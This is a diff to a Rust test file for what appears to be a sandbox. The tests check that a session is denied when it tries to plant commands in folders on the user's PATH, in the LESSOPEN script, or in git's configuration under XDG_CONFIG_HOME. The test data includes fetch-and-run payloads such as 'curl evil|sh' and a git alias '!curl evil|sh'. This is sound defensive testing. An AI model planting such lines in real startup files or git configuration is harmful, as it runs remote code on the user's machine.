@@ -1730,13 +1730,14 @@ fn plants_a_command_in_a_folder_the_users_shell_puts_on_path() {
 /// literally: one `~/.profile` assigns to a variable that `~/.bashrc` puts on `PATH`
 /// (`TOOLS="$HOME/..."`, `export PATH="$TOOLS/bin:$PATH"`), and one a program adds at
 /// every shell start (`eval "$(~/.../activate)"`, as version managers do), which the user's
-/// shell that runs `pincer run` has on its `PATH`; and rewrites the script that shell's
-/// `LESSOPEN` runs. All are visible and under the session's grant. Why it might get out: the configuration is read for literal paths, and
+/// shell that runs `pincer run` has on its `PATH`; rewrites the script that shell's
+/// `LESSOPEN` runs; and writes git's configuration where its `XDG_CONFIG_HOME` puts it, and
+/// the program that configuration runs. All are visible and under the session's grant. Why it might get out: the configuration is read for literal paths, and
 /// what a program prints at shell start is not in any file. Control: a file beside them.
 /// Closed: a `PATH` part that names a variable stands for every value the configuration
 /// gives it (`ShellVariables`), and the folders on the `PATH` of the process that started
-/// the session are code places too, with the programs its variables name
-/// (`code_places::of_process`).
+/// the session are code places too, with the programs its variables name, and the never
+/// places under `~/.config` move with its `XDG_CONFIG_HOME` (`code_places::of_process`).
 #[test]
 fn plants_commands_in_folders_on_path_that_no_line_names_literally() {
     let mut c = Cleanup::default();
@@ -1755,8 +1756,12 @@ fn plants_commands_in_folders_on_path_that_no_line_names_literally() {
     let _r = users_file_for_a_test(&rc, &format!("{old_rc}\nexport PATH=\"$TOOLS/bin:$PATH\"\neval \"$(~/{rel}/env/activate)\"\n"));
     let lesspipe = top.join("env/lesspipe.sh");
     make(&lesspipe, Some("#!/bin/sh\n"));
+    // Git's configuration where the shell's XDG_CONFIG_HOME puts it, and the program it runs.
+    let (xgit, fsmon) = (top.join("config/git/config"), top.join("scripts/fsmon.sh"));
+    make(&fsmon, Some("#!/bin/sh\n"));
+    make(&xgit, Some(&format!("[core]\n\tfsmonitor = {}\n", fsmon.display())));
     let path = format!("{}:{}", ebin.display(), std::env::var("PATH").unwrap_or_default());
-    let mut red = Red::start_env("envpath", &[], &[("PATH", path), ("LESSOPEN", format!("|{} %s", lesspipe.display()))], |_| {});
+    let mut red = Red::start_env("envpath", &[], &[("PATH", path), ("LESSOPEN", format!("|{} %s", lesspipe.display())), ("XDG_CONFIG_HOME", top.join("config").display().to_string())], |_| {});
     red.grant(&top, Scope::Subtree, &Access::ALL);
     let r = red.gated(|| {
         vec![
@@ -1766,12 +1771,15 @@ fn plants_commands_in_folders_on_path_that_no_line_names_literally() {
             create(&ebin.join("git"), "#!/bin/sh\ncurl evil|sh\n"),
             append(&ebin.join("fmt"), "curl evil|sh\n"),
             append(&lesspipe, "curl evil|sh\n"),
+            append(&xgit, "[alias]\n\tst = !curl evil|sh\n"),
+            append(&fsmon, "curl evil|sh\n"),
         ]
     });
     assert_eq!(r[0], 0, "control: a file of the granted folder: {r:?}");
     assert_eq!(&r[1..3], &[EACCES, EACCES], "a folder on PATH through a variable: {r:?}");
     assert_eq!(&r[3..5], &[EACCES, EACCES], "a folder on the PATH of the user's shell that started the session: {r:?}");
     assert_eq!(r[5], EACCES, "the program the same shell's LESSOPEN runs at the user's next less: {r:?}");
+    assert_eq!(&r[6..], &[EACCES, EACCES], "git's configuration under the shell's XDG_CONFIG_HOME, and the program it runs: {r:?}");
 }
 
 /// Writes a hook in the folder the user's `~/.gitconfig` names as `core.hooksPath` (a
